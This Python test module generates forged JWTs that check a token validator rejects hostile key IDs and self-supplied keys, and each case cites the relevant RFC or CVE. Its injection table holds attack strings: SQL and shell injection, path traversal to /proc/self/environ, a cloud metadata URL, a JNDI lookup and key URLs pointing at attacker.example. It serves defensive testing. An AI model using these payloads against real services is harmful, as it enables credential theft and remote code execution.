"""Keys: the ones that a token brings along, and the names by which it asks for one."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator, Mapping
from datetime import UTC, datetime
from functools import lru_cache
from hashlib import sha1, sha256
from urllib.parse import quote

from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509 import CertificateBuilder, Name, NameAttribute
from cryptography.x509.oid import NameOID

from ...errors import Reason
from ..claims import ABSENT
from ..keys import base64url
from .forge import Case, Forge

_NO_KEY_IDS: Mapping[str, object] = {
    "missing": ABSENT,
    "empty": "",
    "null": None,
    "number": 0,
    "true": True,
    "list": [],
    "object": {},
    "too-long": "k" * 257,
}
_INJECTIONS = {
    "path-traversal": "../../../../../../dev/null",
    "absolute-path": "/proc/self/environ",
    "file-url": "file:///dev/null",
    "url": "https://attacker.example/key.pem",
    "metadata-url": "http://169.254.169.254/latest/meta-data/",
    "sql": "x' UNION SELECT 'secret' -- ",
    "shell": "x; $(id) | `id`",
    "ldap": "*)(uid=*",
    "jndi": "${jndi:ldap://attacker.example/x}",
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
    "regular-expression": ".*",
    "line-breaks": "x\r\nSet-Cookie: session=evil",
    "markup": "<script>alert(1)</script>",
    "proto": "__proto__",
    "index": "0",
    "null-text": "null",
    "nul": "\0",
    "right-to-left": "\u202egnihtyna",
    "surrogate-pair": "\U0001f511",
    "as-long-as-may-be": "k" * 256,
}


def keys(forge: Forge) -> Iterator[Case]:
    """Yield tokens whose header points at a key that is not to be used, or at none."""
    yield from _brought_along(forge)
    for name, value in _NO_KEY_IDS.items():
        why = "Without a sound `kid` there is no key to check with; trying all of them is no answer."
        yield f"id-{name}", forge.signed({"kid": value}), Reason.MALFORMED_TOKEN, why
    for name, kid in _INJECTIONS.items():
        why = "A `kid` is looked up and nothing else: no path, no query, no pattern (RFC 8725 §3.10)."
        yield f"id-{name}", forge.signed({"kid": kid}), Reason.UNKNOWN_KEY, why
    for name, kid in _twins(forge.key.kid).items():
        why = "Key IDs are compared byte for byte (RFC 7515 §4.1.4)."
        yield f"id-{name}", forge.signed({"kid": kid}), Reason.UNKNOWN_KEY, why
    yield from _mixed_up(forge)


def _brought_along(forge: Forge) -> Iterator[Case]:
    stranger = forge.stranger
    for name, parameters in _hints(forge).items():
        token = forge.signed({**parameters, "kid": stranger.kid}, key=stranger)
        yield f"{name}-self-signed", token, Reason.UNKNOWN_KEY, "A token must not bring its own key (CVE-2018-0114)."
        token = forge.signed(parameters, key=stranger)
        yield f"{name}-under-our-id", token, Reason.INVALID_SIGNATURE, "The same under a key ID of the pool."
        token = forge.signed({**parameters, "kid": ABSENT}, key=stranger)
        yield f"{name}-without-id", token, Reason.MALFORMED_TOKEN, "The same where there is no other key to find."
    everything = {name: value for parameters in _hints(forge).values() for name, value in parameters.items()}
    yield "hints-ignored", forge.signed(everything), None, "Hints are not used, and are no reason to refuse."


def _hints(forge: Forge) -> Mapping[str, Mapping[str, object]]:
    """Return the parameters that name a key (RFC 7515 §4.1.2 to §4.1.8), with the stranger's."""
    certificate = _certificate(forge.stranger.private_key)
    return {
        "jwk": {"jwk": forge.stranger.jwk()},
        "jku": {"jku": "https://attacker.example/.well-known/jwks.json"},
        "x5u": {"x5u": "https://attacker.example/chain.pem"},
        "x5c": {"x5c": [b64encode(certificate).decode()]},
        "x5t": {"x5t": base64url(sha1(certificate, usedforsecurity=False).digest())},
        "x5t-s256": {"x5t#S256": base64url(sha256(certificate).digest())},
    }


@lru_cache(maxsize=4)
def _certificate(private_key: RSAPrivateKey) -> bytes:
    """Return a certificate that the key signed for itself."""
    name = Name([NameAttribute(NameOID.COMMON_NAME, "attacker.example")])
    builder = (
        CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(private_key.public_key())
        .serial_number(1)
        .not_valid_before(datetime(2000, 1, 1, tzinfo=UTC))
        .not_valid_after(datetime(2099, 1, 1, tzinfo=UTC))
    )
    return builder.sign(private_key, SHA256()).public_bytes(Encoding.DER)


def _twins(kid: str) -> Mapping[str, str]:
    """Return what looks like the key ID, or is the same to whoever normalises."""
    return {
        "other-case": kid.swapcase(),
        "without-padding": kid.rstrip("="),
        "percent-encoded": quote(kid, safe=""),
        "cut-short": kid[:-2],
        "with-a-blank": f"{kid} ",
        "with-nul": f"{kid}\0",
        "look-alike": chr(ord(kid[0]) + 0xFEE0) + kid[1:],
        "doubled": kid + kid,
    }


def _mixed_up(forge: Forge) -> Iterator[Case]:
    stranger, id_key = forge.stranger, forge.pool.id_key
    why = "Right in every claim, and signed by another user pool."
    yield "of-another-pool", forge.signed({"kid": stranger.kid}, key=stranger), Reason.UNKNOWN_KEY, why
    yield "id-of-another-pool", forge.signed({"kid": stranger.kid}), Reason.UNKNOWN_KEY, "Ours signed, theirs is named."
    why = "Signed by another user pool under a key ID of this one."
    yield "of-another-pool-under-our-id", forge.signed(key=stranger), Reason.INVALID_SIGNATURE, why
    why = "The key named is the pool's other one: no other key is tried."
    yield "id-of-the-other-key", forge.signed({"kid": id_key.kid}), Reason.INVALID_SIGNATURE, why
    why = "Which of its keys a pool signs with is its own business: `token_use` says what a token is."
    yield "for-id-tokens", forge.signed({"kid": id_key.kid}, key=id_key), None, why
